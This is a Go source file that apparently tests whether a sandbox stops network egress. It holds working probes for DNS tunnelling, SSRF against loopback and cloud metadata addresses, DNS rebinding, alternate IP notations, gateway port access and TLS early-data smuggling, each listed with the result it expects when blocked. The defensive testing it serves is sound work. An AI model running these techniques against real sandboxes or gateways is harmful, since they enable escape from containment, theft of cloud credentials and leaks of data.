package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"nacre/attack/wire"
)

// egressProbes try to get out of a sandbox that has a network: one host, some of
// its paths, and a credential that the sandbox never has.
func egressProbes() []probe {
	granted := egress("granted-host", "RFC 9110", "reach what is granted", "it is reached, so that the others mean something", func(*way) []attempt { return nil })
	granted.proof = wire.ByReach
	list := []probe{granted,
		egress("direct-address", "RFC 4291, RFC 6052, inet_aton(3)", "connect to the machine by its addresses, in every notation that leads there", "reset, or the sandbox's own loopback", directAddresses),
		egress("other-port", "RFC 9110 4.3", "reach other ports of the granted host, by its name", "reset", otherPorts),
		egress("other-name", "RFC 1035", "look up and reach names that are not granted, and the granted one in other spellings", "no such name", otherHosts),
		egress("dns-names", "RFC 1035, draft-vixie-dnsext-dns0x20", "carry data out in names: long labels, labels below the granted name, upper case, every type of record", "nothing is asked outside", dnsNames),
		egress("dns-direct", "RFC 1035, RFC 7766", "ask a name server of its own choosing, by UDP and TCP", "the gateway answers, or nobody", dnsDirect),
		egress("dns-over-https", "RFC 8484, RFC 7858", "ask a resolver at a hard-coded address by HTTPS and TLS, or through the granted host", "reset; denied", dnsOverHTTPS),
		egress("ssrf", "CWE-918", "have the gateway fetch loopback, private, metadata and its own addresses", "denied", ssrf),
		egress("rebinding", "CWE-350", "reach a granted name that leads to private addresses by the time it is used", "not dialled", rebinding),
		egress("raw-udp", "udp(7), QUIC RFC 9000", "send datagrams to the machine and elsewhere", "refused", datagrams),
		egress("gateway-ports", "nft(8) redirect", "talk to the gateway's own ports inside directly", "reset", gatewayPorts),
		egress("early-data", "RFC 8446 2.3, 4.2.10", "send a request before the handshake is done", "the connection ends", earlyData),
		egress("hidden-name", "RFC 9849 (ECH)", "hide another name in the handshake", "refused, or read as the outer name", hiddenName),
	}
	return append(append(list, egressWebProbes()...), egressKernelProbes()...)
}

func directAddresses(o *way) (list []attempt) {
	notations := []string{"127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "[::]"}
	for _, text := range o.Addresses {
		a, err := netip.ParseAddr(text)
		if err != nil {
			continue
		}
		if a.Is6() {
			notations = append(notations, "["+text+"]")
			continue
		}
		four := a.As4()
		n := binary.BigEndian.Uint32(four[:])
		h := hex.EncodeToString(four[:])
		notations = append(notations, text, "[::ffff:"+text+"]", "[::"+text+"]", "[64:ff9b::"+text+"]", "[64:ff9b:1::"+text+"]", "[2002:"+h[:4]+":"+h[4:]+"::1]",
			fmt.Sprint(n), "0x"+h, fmt.Sprintf("0%o", n), fmt.Sprintf("%d.%d", four[0], n&0xffffff), text+".")
	}
	for _, at := range notations {
		for _, port := range []int{o.config.TCP4, o.TLSPort} {
			list = append(list, o.knocks("tcp", fmt.Sprintf("%s:%d", at, port)))
		}
	}
	return list
}

func otherPorts(o *way) (list []attempt) {
	for _, port := range []int{o.config.TCP4, o.config.TCP6, o.DNSPort, 22, 53, 80, 443, 853} {
		list = append(list, o.knocks("tcp", o.at(port)))
	}
	return list
}

func otherHosts(o *way) (list []attempt) {
	for _, name := range []string{o.Other, "granted.test", "x." + o.Host, o.Host + ".", strings.ToUpper(o.Host), o.Host + ".lan", "localhost", "host.docker.internal", "metadata.google.internal",
		o.token + ".test", "api。granted。test"} {
		list = append(list, o.knocks("tcp", fmt.Sprintf("%s:%d", name, o.config.TCP4)))
	}
	return list
}

// ask sends a question to a name server.
func (o *way) ask(network, server, name string, kind dnsmessage.Type) attempt {
	return attempt{fmt.Sprintf("%s %s %.40s %v", network, server, name, kind), func() error {
		n, err := dnsmessage.NewName(name)
		if err != nil {
			return err
		}
		m := dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true}, Questions: []dnsmessage.Question{{Name: n, Type: kind, Class: dnsmessage.ClassINET}}}
		b, err := m.Pack()
		if err != nil {
			return err
		}
		c, err := net.DialTimeout(network, server, patience)
		if err != nil {
			return errors.New(shortError(err))
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(patience / 4))
		if network == "tcp" {
			b = append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)
		}
		if _, err = c.Write(b); err == nil {
			reply := make([]byte, 512)
			var size int
			if size, err = c.Read(reply); err == nil && size > 5 {
				return fmt.Errorf("answered with code %d", reply[3]&15+reply[min(size-1, 5)]&15)
			}
		}
		return errors.New(shortError(err))
	}}
}

func dnsNames(o *way) (list []attempt) {
	mixed := strings.ToUpper(o.Host[:3]) + o.Host[3:] + "."
	names := []string{o.token + ".", o.token + "." + o.Host + ".", strings.Repeat(o.token+".", 3), "a." + o.token + "." + o.Rebound + ".", mixed, o.Rebound + ".", o.Other + "."}
	for _, name := range names {
		for _, kind := range []dnsmessage.Type{dnsmessage.TypeA, dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeCNAME, dnsmessage.TypeMX, dnsmessage.TypeNS, dnsmessage.TypePTR,
			dnsmessage.TypeALL, 10 /* NULL */, 64 /* SVCB */, 65 /* HTTPS */, 252 /* AXFR */} {
			list = append(list, o.ask("udp", "198.18.0.1:53", name, kind))
		}
		list = append(list, o.ask("tcp", "198.18.0.1:53", name, dnsmessage.TypeTXT))
	}
	return list
}

func dnsDirect(o *way) (list []attempt) {
	servers := []string{"192.0.2.53:53", "[2001:db8::53]:53", fmt.Sprintf("127.0.0.1:%d", o.DNSPort), "127.0.0.1:53", "127.0.0.53:53", "[::1]:53"}
	for _, a := range o.Addresses {
		servers = append(servers, net.JoinHostPort(a, "53"), net.JoinHostPort(a, fmt.Sprint(o.DNSPort)))
	}
	for _, s := range servers {
		list = append(list, o.ask("udp", s, o.token+".test.", dnsmessage.TypeTXT), o.ask("tcp", s, o.token+".test.", dnsmessage.TypeTXT))
	}
	return list
}

func dnsOverHTTPS(o *way) (list []attempt) {
	for _, a := range append([]string{"192.0.2.1", "2001:db8::1"}, o.Addresses...) {
		for _, port := range []int{443, 853, o.TLSPort} {
			list = append(list, o.knocks("tcp", net.JoinHostPort(a, fmt.Sprint(port))))
		}
	}
	return append(list, o.says("through the granted host", o.request("GET", "/dns-query?name="+o.token+".test&type=TXT", o.RawPort, "Accept: application/dns-json", "Connection: close")))
}

// inner are addresses that no gateway may fetch for anybody.
func (o *way) inner() []string {
	list := []string{"localhost", "127.0.0.1", "127.1", "2130706433", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "10.0.0.1", "192.168.0.1", "100.64.0.1",
		"169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "198.18.0.1", "[fd6e:6163:7265::1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"}
	for _, a := range o.Addresses {
		list = append(list, strings.TrimSuffix(net.JoinHostPort(a, "0"), ":0"))
	}
	return list
}

func ssrf(o *way) (list []attempt) {
	for _, a := range o.inner() {
		at := fmt.Sprintf("%s:%d", a, o.config.TCP4)
		list = append(list,
			o.says("absolute "+a, fmt.Sprintf("GET http://%s/%s HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n", at, o.token, o.Host, o.RawPort)),
			o.says("host "+a, fmt.Sprintf("GET /open/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", o.token, at)),
			o.says("userinfo "+a, fmt.Sprintf("GET http://%s:%d@%s/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", o.Host, o.RawPort, at, o.token, at)))
	}
	return list
}

func rebinding(o *way) (list []attempt) {
	for i := range 12 {
		list = append(list, attempt{fmt.Sprint("connection ", i), func() error {
			c, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", o.Rebound, o.TLSPort), patience)
			if err != nil {
				return errors.New(shortError(err))
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(patience))
			t := tls.Client(c, &tls.Config{ServerName: o.Rebound, InsecureSkipVerify: true})
			if _, err := fmt.Fprintf(t, "GET /open/%s HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n", o.token, o.Rebound, o.TLSPort); err != nil {
				return errors.New(shortError(err))
			}
			b := make([]byte, 40)
			n, err := t.Read(b)
			return fmt.Errorf("%s %v", firstLine(string(b[:n])), err)
		}})
	}
	return list
}

func datagrams(o *way) (list []attempt) {
	targets := []string{fmt.Sprintf("127.0.0.1:%d", o.config.UDP4), fmt.Sprintf("[::1]:%d", o.config.UDP6), fmt.Sprintf("%s:%d", o.Host, o.config.UDP4), o.Host + ":443", "192.0.2.1:443", "[2001:db8::1]:443",
		"255.255.255.255:67", "224.0.0.251:5353", "[ff02::1]:5353"}
	for _, a := range o.Addresses {
		for _, port := range []int{o.config.TCP4, o.TLSPort, o.DNSPort, 53} {
			targets = append(targets, net.JoinHostPort(a, fmt.Sprint(port)))
		}
	}
	for _, t := range targets {
		list = append(list, o.knocks("udp", t))
	}
	return list
}

func gatewayPorts(o *way) (list []attempt) {
	for _, at := range []string{"127.0.0.1", "::1", "198.18.0.1", "0.0.0.0", "127.0.0.2"} {
		for _, port := range []int{61080, 61053} {
			address := net.JoinHostPort(at, fmt.Sprint(port))
			list = append(list, o.knocks("tcp", address), o.knocks("udp", address), attempt{"request to " + address, func() error {
				c, err := net.DialTimeout("tcp", address, patience)
				if err != nil {
					return errors.New(shortError(err))
				}
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(patience))
				fmt.Fprintf(c, "CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n%s\n", o.config.TCP4, o.config.TCP4, o.token)
				_, err = c.Read(make([]byte, 1))
				return fmt.Errorf("read: %v", err)
			}})
		}
	}
	return list
}

// earlyData sends a real first message and, before any answer, a request.
func earlyData(o *way) []attempt {
	first := recorded{done: make(chan struct{})}
	client := tls.Client(&first, &tls.Config{ServerName: o.Host, InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	_ = client.HandshakeContext(ctx) // ends once the first message is there
	request := o.denied(o.RawPort)
	record := append([]byte{23, 3, 3, byte(len(request) >> 8), byte(len(request))}, request...)
	var list []attempt
	for name, what := range map[string][]byte{"after the first message": append(first.said, record...), "before it": append(record, first.said...), "in the clear": append(first.said, request...)} {
		list = append(list, attempt{name, func() error {
			c, err := net.DialTimeout("tcp", o.at(o.RawPort), patience)
			if err != nil {
				return errors.New(shortError(err))
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(patience / 2))
			_, _ = c.Write(what)
			reply := make([]byte, 4096)
			n, err := c.Read(reply)
			return fmt.Errorf("%d bytes, %v", n, err)
		}})
	}
	return list
}

// recorded is a connection that keeps what is written first, and gives nothing.
type recorded struct {
	net.Conn
	said []byte
	done chan struct{}
}

func (r *recorded) Write(p []byte) (int, error)      { r.said = append(r.said, p...); return len(p), nil }
func (r *recorded) Read([]byte) (int, error)         { return 0, errors.New("enough") }
func (r *recorded) Close() error                     { return nil }
func (r *recorded) SetDeadline(time.Time) error      { return nil }
func (r *recorded) SetReadDeadline(time.Time) error  { return nil }
func (r *recorded) SetWriteDeadline(time.Time) error { return nil }
